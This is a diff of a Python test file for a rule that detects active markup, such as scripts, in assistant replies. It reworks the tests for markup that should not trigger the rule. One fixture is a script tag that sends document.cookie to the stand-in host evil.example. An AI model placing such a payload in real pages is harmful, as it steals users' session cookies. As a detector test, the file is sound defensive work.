@@ -9,7 +9,7 @@ import pytest
 from governance.rules.sec005_active_markup import RULE
 from tests.builders import batch
 from tests.rules.duplicates import fingerprints, run, shuffled
-from tests.rules.places import kinds, quiet, spans
+from tests.rules.places import kinds, spans
 
 FIRES = [
     ("<script>fetch('https://evil.example/?c=' + document.cookie)</script>", "script"),
@@ -35,7 +35,7 @@ def test_markup_that_acts_fires(text: str, kind: str) -> None:
     assert kind in kinds(RULE, [("user", "你好"), ("assistant", text)])
 
 
-QUIET = [
+NEAR_MISSES = [
     "<b>bold</b> and <i>italic</i>, <br/> and <table><tr><td>1</td></tr></table>",
     "What does the <script> tag do?",
     "请解释 `<script>alert(1)</script>` 的作用",
@@ -55,8 +55,9 @@ QUIET = [
 ]
 
 
-def test_plain_markup_and_code_stay_quiet() -> None:
-    assert [] == quiet(RULE, QUIET)
+@pytest.mark.parametrize("text", NEAR_MISSES)
+def test_plain_markup_and_code_stay_quiet(text: str) -> None:
+    assert [] == kinds(RULE, text)
 
 
 def test_offsets_count_characters() -> None:
